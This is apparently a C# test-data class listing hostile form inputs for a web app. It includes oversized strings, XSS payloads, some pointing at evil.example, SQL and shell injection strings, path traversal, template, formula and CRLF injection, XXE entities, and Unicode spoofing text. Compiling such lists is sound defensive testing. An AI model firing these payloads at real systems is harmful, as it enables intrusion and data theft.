namespace Workshop.Web.Tests.Forms;

/// <summary>
/// What people type who mean harm, or whose pens slip. An unpaired surrogate stands for bytes that are no UTF-8: U+DC80 to U+DCFF for the
/// byte in its name, any other for the three bytes with which careless programs write it.
/// </summary>
internal static class HostileTexts
{
    private const string Bell = "\a", Escape = "\e";

    /// <summary>No request takes these.</summary>
    public static IReadOnlyList<string> TooLarge { get; } =
        [new string('a', 1_050_000), string.Concat(Enumerable.Repeat("word ", 250_000)), string.Concat(Enumerable.Repeat("line\r\n", 150_000)), new string('ß', 5_000_000)];

    /// <summary>Any text field takes these, as text.</summary>
    public static IReadOnlyList<string> Texts { get; } =
    [
        // What a scientist writes.
        "p < 0.05", "a<b and c>d & e", "x & y &amp; z", "if (a < b && c > d) { }", "5 > 3 < 7", "“quotes” ‘of’ «every» „kind‟", "Müller–Straße №5 ½ ‰ ∑∞", "O'Brien's \"last\" talk",
        "C:\\temp\\new\\table", "100 % of $20 + #3 @ 5 ~ *x* _y_", "$\\alpha < \\beta$ and \\(x^2\\)", "<3", "a<<1", "\\", "<", "&", "\"", "'", "`", "--", "...", "?", "/", "|",
        // Scripts and elements.
        "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "</script><script>alert(1)</script>",
        "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
        "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>", "<svg><script>alert(1)</script></svg>", "<script\u00a0>alert(1)</script>", "<script\n>alert(1)</script\n>",
        "<iframe src=\"https://evil.example\"></iframe>", "<object data=\"data:text/html,x\"></object>", "<embed src=\"https://evil.example/x.swf\">", "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>", "<form action=//evil.example><input name=q></form>",
        "<template><script>alert(1)</script></template>", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>", "<marquee onstart=alert(1)>", "<plaintext>", "<xmp><script>alert(1)</script>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<table><tr><td>out of <p>place", "</main></body></html>", "<!--", "<![CDATA[", "<?xml version=\"1.0\"?>", "<!DOCTYPE html>", "<a", "</", "<img", "<br/><hr>",
        // Event handlers.
        "<img src=x onerror=alert(1)>", "<body onload=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>x</details>",
        "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "x onmouseover=alert(1) y", "\" autofocus onfocus=\"alert(1)\" x=\"", "` onmouseover=`alert(1)`", "<a onclick=alert(1) href=#>x</a>",
        "<img src=\"x\"onerror=alert(1)//", "<p style=\"background:url(//evil.example/p)\">x</p>", "<x contenteditable onblur=alert(1)>lose focus</x>",
        // Addresses.
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", " javascript:alert(1)", "\u0001javascript:alert(1)", "javascript://example.org/%0aalert(1)", "&#106;avascript:alert(1)",
        "javascript&colon;alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
        "blob:https://evil.example/1", "file:///etc/passwd", "//evil.example", "///evil.example", "\\\\evil.example\\share", "https://good.example@evil.example/", "https://evil.example/?\"onload=alert(1)",
        "http://[::1", "https://", "https://example.org/\r\nSet-Cookie: a=b", "https://xn--80ak6aa92e.example", "https://еxample.org", "mailto:a@b.example?bcc=c@d.example", "tel:+1<script>", "view-source:https://example.org", "ftp://evil.example/",
        // Markdown.
        "[x](javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x](&#x6A;avascript:alert(1))", "![x](javascript:alert(1))", "![x](https://evil.example/pixel.gif)", "[x]: javascript:alert(1)\n\n[x]", "<javascript:alert(1)>",
        "[a](data:text/html;base64,PHNjcmlwdD4=)", "[x](https://a.example \"onmouseover=alert(1)\")", "![a\"onerror=\"alert(1)](x)", "# a heading\n\n## another", "```\n<script>\n```", "`<script>`", "> quoted\n> <b>bold</b>", "- [ ] a\n- [x] b",
        "| a | b |\n|---|---|\n| <i>c</i> | d |", "***a***__b__~~c~~", "[[[[[[[[[[[[", "((((((((((((", "*_*_*_*_*_*_*_*_", "1. a\n1. b\n   1. c", "    four spaces", "Term\n: what it means", "$$\\href{javascript:alert(1)}{x}$$", "\\input{/etc/passwd}",
        // Templates, queries and what machines read.
        "{{7*7}}", "{{constructor.constructor('alert(1)')()}}", "${7*7}", "#{7*7}", "@Html.Raw(\"<script>\")", "@(1+1)", "@model object", "<%= 7*7 %>", "{% include '/etc/passwd' %}", "{0} {1:N0} {{0}}", "%s%s%n%x", "%(a)s",
        "'; DROP TABLE Events; --", "' OR '1'='1", "1; SELECT * FROM sqlite_master", "\" OR \"\"=\"", "Robert'); DELETE FROM People;--", "NEAR(a b, 5) OR *", "%_%", "$(touch /tmp/x)", "`id`", "| cat /etc/passwd", "../../../etc/passwd", "..\\..\\windows\\win.ini",
        "=1+1", "=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "a,b;c\td\"e", "{\"a\":1}", "[1,2", "null", "undefined", "NaN", "true", "0", "-1", "1e999", "__proto__", "CON", "a\\u003cb", "\\x3cscript\\x3e",
        // Lines that are read as something else.
        "a\r\nX-Injected: yes", "a\r\n\r\n<html>", "a\nBcc: eve@evil.example", "a\r\nEND:VEVENT\r\nBEGIN:VEVENT", "a\\nEND:VCALENDAR", "a;b,c:d\\;e", "X;CN=\"a\":mailto:b", "BEGIN:VALARM\r\nTRIGGER:-PT0S", "a\u0085b\u2028c\u2029d", "a\vb\fc", "line one\n\nline two",
        // Entities.
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "&NotAnEntity;", "&amp;amp;", "&#0;", "&#8238;x", "&#xD800;", "&quot;&apos;", "<!ENTITY x SYSTEM \"file:///etc/passwd\">", "&x;&x;&x;", "]]>",
        // Letters that are not what they seem.
        "\u202Egpj.exe", "\u202Aa\u202Bb\u202Cc\u202Dd", "\u2066a\u2067b\u2069", "שלום עולם", "مرحبا بالعالم", "a ‏(ב) c", "zero\u200Bwidth\u200Cjoiner\u200D\u2060here\uFEFF", "Z̷̢̛a̸l̵g̶o̷", "e\u0301 é", "\u0301\u0301\u0301", "ﬃ Ǆ ß İ ı",
        "ｆｕｌｌ　ｗｉｄｔｈ ＜ｓｃｒｉｐｔ＞", "👩‍👩‍👧‍👦🏳️‍🌈🇩🇪", "𝒳𝔶𝕫", "\u00AD\u00AD\u00AD", "\u3164", "\uE000", "\uFDD0\uFFFE\uFFFF", "\U0001FFFF", "\U000E0041\U000E0042", "日本語の題名", "𠮷野家", "ก็็็็็็็็็", "a\u00A0b\u2003c", $"{Bell}{Escape}[31mred", "\u0080\u009F\u007F",
        // NUL, and bytes that are no text.
        "nul\0here", "\0", "\0\0\0", "a\0<script>alert(1)</script>", "\udcff\udcfe", "\udcc3\udca8", "\udcc3(", "\udce2\udc82", "\udcf0\udc80\udc80\udcaf", "\ud83d", "\ude00\ud83d", "a\ud800b", "\udcc0\udc80", "\udc80\udcbf",
        // Long.
        new string('W', 39), $"{new string('a', 20)}-{new string('b', 18)}", string.Concat(Enumerable.Repeat("ab ", 13)), string.Concat(Enumerable.Repeat("𝒳", 18)), new string('<', 38), new string('&', 37), string.Concat(Enumerable.Repeat("\"'", 19)),
    ];
}
